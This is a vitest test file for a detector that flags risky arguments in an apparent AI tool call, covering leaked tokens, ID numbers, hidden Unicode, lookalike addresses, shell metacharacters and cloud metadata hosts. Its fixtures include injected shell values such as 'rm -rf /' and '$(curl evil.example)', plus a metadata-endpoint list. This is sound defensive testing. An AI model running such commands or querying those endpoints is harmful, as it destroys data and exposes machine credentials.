import { definitionDigest, readDefinition } from "@hufu/core/profile/definition"
import { expect, test } from "vitest"
import { profileAutomatically } from "../profile/automatic.ts"
import { argumentSignals } from "./argument-signals.ts"

const text = { type: "string" }
const definition = readDefinition({
  name: "send_file",
  description: "Sends a file to somebody.",
  inputSchema: {
    type: "object",
    properties: { to: text, path: text, host: text, body: text, account: text },
  },
})
const profile = profileAutomatically(definition, definitionDigest(definition))
const signalsOf = (args: Record<string, string>, host?: string) =>
  argumentSignals({
    profile,
    arguments: args,
    targets: host === undefined ? [] : [{ kind: "url", value: host, host, own: false }],
  })

const key = ["ghp", "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5"].join("_")

test("what is carried is looked at for secrets, personal numbers and hidden characters", () => {
  expect(signalsOf({ body: `my key is ${key}` })).toEqual(["secret", "code_host_token"])
  expect(signalsOf({ body: "卡号 6222020200112233445, 身份证 11010519491231002X" })).toContain(
    "cn_resident_id",
  )
  expect(signalsOf({ body: "pay\u202edrac\u202c" })).toEqual(["hidden", "bidirectional_control"])
  expect(signalsOf({ body: "Meet at noon, R&D; bring `notes`." })).toEqual([])
})

test("a number that says whom it reaches is no personal number that is passed on", () => {
  const iban = "DE89370400440532013000"
  expect(signalsOf({ body: `to ${iban}` })).toEqual(["personal", "iban"])
  expect(signalsOf({ account: iban, to: "ann@mail.example" })).toEqual([])
})

test("what it is aimed at must not be disguised, nor a secret stand in it", () => {
  expect(signalsOf({ to: "ann@p\u0430ypal.example" })).toContain("disguised_target")
  expect(signalsOf({ to: "ann\u200b@mail.example" })).toContain("disguised_target")
  expect(signalsOf({ body: "p\u0430ypal" })).not.toContain("disguised_target")
  expect(signalsOf({ path: `/tmp/${key}` })).toContain("secret")
  expect(signalsOf({ to: "王小明" })).toEqual([])
})

test.each([
  "notes.txt; rm -rf /",
  "$(curl evil.example)",
  "`id`",
  "a|b",
  "x && y",
  "a\nb",
  "--upload-pack=x",
  "${HOME}",
  "a>b",
])("a path or host that a shell would act upon is told: %j", (value) => {
  expect(signalsOf({ path: value })).toContain("shell_characters")
  expect(signalsOf({ host: value })).toContain("shell_characters")
  expect(signalsOf({ body: value })).not.toContain("shell_characters")
})

test.each([
  "/home/ann/R&D/plan (1).md",
  "C:\\Users\\Ann\\x.txt",
  "./a-b_c/d.txt",
  "文件/笔记.md",
  "it's here.txt",
  "a=b,c+d@e%20.txt",
])("an ordinary path is not: %s", (path) => {
  expect(signalsOf({ path })).toEqual([])
})

test.each(["169.254.169.254", "metadata.google.internal", "100.100.100.200", "fe80::1", "fd00:ec2::254"])(
  "%s is where a machine tells its secrets",
  (host) => {
    expect(signalsOf({}, host)).toEqual(["metadata_address"])
    expect(signalsOf({}, `${host}.example.com`)).toEqual([])
  },
)

test("a secret in the name of a member is seen", () => {
  expect(signalsOf({ [`note ${key}`]: "x" })).toContain("secret")
})

test("what is too long to be waited for is told, and what stands at its beginning is seen", () => {
  const found = signalsOf({ body: `${key} ${"word ".repeat(20_000)}` })
  expect(found).toContain("unread")
  expect(found).toContain("secret")
  expect(signalsOf(Object.fromEntries(Array.from({ length: 2000 }, (_, at) => [`m${at}`, "x"])))).toContain(
    "unread",
  )
})
